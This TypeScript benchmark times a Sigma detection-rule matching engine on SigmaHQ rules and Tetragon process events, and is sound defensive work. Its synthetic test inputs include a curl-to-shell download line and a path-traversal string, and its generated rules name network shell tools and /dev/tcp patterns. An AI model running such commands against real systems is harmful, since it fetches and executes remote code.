/** What it takes to ask Sigma rules about events: the match stage alone. See README.md. */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { loadavg } from 'node:os';
import { join, resolve } from 'node:path';
import { cpuUsage, env } from 'node:process';
import { parseArgs } from 'node:util';

import { jsonEvent, loadRules, scalarsOf } from '@tidewaiter/sigma';
import type { RuleFile, SigmaEvent } from '@tidewaiter/sigma';
import { parse, stringify } from 'yaml';

const { values: options } = parseArgs({ options: { rules: { type: 'string', default: '475,500,1000,3000' } } });
const shared = resolve(env['TIDEWAITER_SHARED'] ?? '../shared', 'detection');
const hasShared = existsSync(join(shared, 'sigma'));
const processes = [{ product: 'linux', category: 'process_creation' }];
const longCommandLength = 8_192;
const rounds = 5;

const own = hasShared ? sigmaHq() : generated(475);
const events = hasShared ? storylineEvents() : generatedEvents();
console.log(`${own.length} rules of ${hasShared ? 'SigmaHQ' : 'our own'}, ${events.length} events of processes, load ${loadavg()[0]!.toFixed(1)}; CPU time, best of ${rounds}\n`);
console.log('rules  engine         events/s  candidates that match  first event ms');
for (const count of options.rules.split(',').map(Number)) for (const interpreted of [false, true]) throughput(count, interpreted);
loading(3_000);
worstRule();

function throughput(count: number, interpreted: boolean): void {
  const { rules } = loadRules(salted(own, count), { interpreted });
  const first = milliseconds(() => rules.match(events[0]!));
  const passes = Math.ceil(60_000 / events.length);
  let matched = 0;
  const run = () => {
    for (let pass = 0; pass < passes; pass += 1) for (const event of events) matched += rules.match(event).length;
  };
  run();
  const best = Math.min(...Array.from({ length: rounds }, () => milliseconds(run)));
  const rate = (passes * events.length * 1_000) / best;
  const share = matched / ((rounds + 1) * passes * events.length);
  console.log(`${String(count).padStart(5)}  ${(interpreted ? 'interpreted' : 'compiled').padEnd(11)} ${Math.round(rate).toLocaleString('en').padStart(11)}  ${share.toFixed(2).padStart(21)}  ${first.toFixed(0).padStart(14)}`);
}

function loading(count: number): void {
  const files = salted(own, count);
  const times = Array.from({ length: rounds }, () => milliseconds(() => loadRules(files)));
  console.log(`\nloading ${count} rules: first ${times[0]!.toFixed(0)} ms, best ${Math.min(...times).toFixed(0)} ms`);
}

/** Each rule alone, asked about a command line that is made of the rule's own words. */
function worstRule(): void {
  const costs = own.map((file) => {
    const { rules } = loadRules([file]);
    const source = rules.rules.length > 0 ? logsourceOf(file) : {};
    const event = (text: string) => jsonEvent({ Image: text, CommandLine: text, ParentImage: text, TargetFilename: text, message: text }, [source]);
    const micros = commandLines(file.text).map((text) => {
      const asked = event(text);
      rules.match(asked);
      const passes = 20;
      return Math.min(...[1, 2, 3].map(() => (milliseconds(() => { for (let pass = 0; pass < passes; pass += 1) rules.match(asked); }) * 1_000) / passes));
    });
    return { path: file.path, micros: Math.max(...micros) };
  });
  console.log(`\nthe most expensive rules, ${longCommandLength} characters in five fields, us an event:`);
  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 8)) console.log(`${micros.toFixed(1).padStart(8)}  ${path}`);
}

function commandLines(rule: string): string[] {
  const words = [...rule.matchAll(/- '?([^'\n]{2,60})'?$/gm)].map(([, word = '']) => word).join(' ');
  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map((text) => text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength));
}

function milliseconds(run: () => unknown): number {
  const before = cpuUsage();
  run();
  const { user, system } = cpuUsage(before);
  return (user + system) / 1_000;
}

function sigmaHq(): RuleFile[] {
  return readdirSync(join(shared, 'sigma'), { recursive: true, encoding: 'utf8' })
    .filter((path) => path.endsWith('.yml'))
    .map((path) => ({ path, text: readFileSync(join(shared, 'sigma', path), 'utf8') }));
}

/** More rules than there are: the same ones with other words in them. */
function salted(rules: readonly RuleFile[], count: number): RuleFile[] {
  return Array.from({ length: count }, (_, index) => {
    const { path, text } = rules[index % rules.length]!;
    const round = Math.floor(index / rules.length);
    if (round === 0) return { path, text };
    const rule = parse(text) as Record<string, unknown>;
    const detection = rule['detection'] as Record<string, unknown>;
    const salt = (value: unknown, key: string): unknown => {
      if (key === 'condition' || key.includes('|re') || key.includes('|cidr') || key.includes('|fieldref')) return value;
      if (typeof value === 'string') return value === '' ? value : value.endsWith('*') ? `zq${round}${value}` : `${value}zq${round}`;
      if (Array.isArray(value)) return value.map((each) => salt(each, key));
      if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, salt(each, name)]));
      return typeof value === 'number' ? value + round * 100_000 : value;
    };
    return { path: `${round}/${path}`, text: stringify({ ...rule, id: `${String(rule['id'])}-${round}`, detection: salt(detection, '') }) };
  });
}

function logsourceOf({ text }: RuleFile): object {
  return (parse(text) as { logsource: object }).logsource;
}

function storylineEvents(): SigmaEvent[] {
  return readdirSync(join(shared, 'storylines'))
    .filter((file) => file.endsWith('.jsonl'))
    .flatMap((file) => readFileSync(join(shared, 'storylines', file), 'utf8').trim().split('\n'))
    .flatMap((line) => {
      const { event } = JSON.parse(line) as { event: { process_exec?: { process: Tetragon; parent?: Tetragon } } };
      return event.process_exec ? [processEvent(event, event.process_exec)] : [];
    });
}

interface Tetragon {
  binary: string;
  arguments?: string;
  cwd: string;
  uid: number;
  pid: number;
}

function processEvent(native: object, { process, parent }: { process: Tetragon; parent?: Tetragon }): SigmaEvent {
  const fields = new Map<string, unknown>([
    ['Image', process.binary],
    ['CommandLine', `${process.binary} ${process.arguments ?? ''}`.trim()],
    ['ParentImage', parent?.binary],
    ['ParentCommandLine', parent && `${parent.binary} ${parent.arguments ?? ''}`.trim()],
    ['CurrentDirectory', process.cwd],
    ['User', process.uid === 0 ? 'root' : String(process.uid)],
    ['ProcessId', process.pid],
  ]);
  // To walk through the sensor's words is the work of the stage before.
  const scalars = scalarsOf(native);
  return { logsources: processes, field: (name) => fields.get(name), scalars: () => scalars };
}

function generated(count: number): RuleFile[] {
  const tools = ['curl', 'wget', 'nc', 'socat', 'python3', 'perl', 'chmod', 'crontab'];
  return Array.from({ length: count }, (_, index) => ({
    path: `${index}.yml`,
    text: `title: r${index}
id: r${index}
logsource: { product: linux, category: process_creation }
detection:
  tool: { Image|endswith: /${tools[index % tools.length]} }
  words: { CommandLine|contains: ['--word-${index}', '/dev/tcp/${index}', 'http*x${index}.sh'] }
  condition: all of them
`,
  }));
}

function generatedEvents(): SigmaEvent[] {
  return Array.from({ length: 400 }, (_, index) => {
    const native = { process_exec: { process: { binary: '/usr/bin/curl', cwd: '/app', arguments: `-fsS http://10.0.0.${index % 250}/healthz --word-${index}` } } };
    const { process } = native.process_exec;
    return processEvent(native, { process: { ...process, uid: 0, pid: index }, parent: { ...process, uid: 0, pid: 1 } });
  });
}
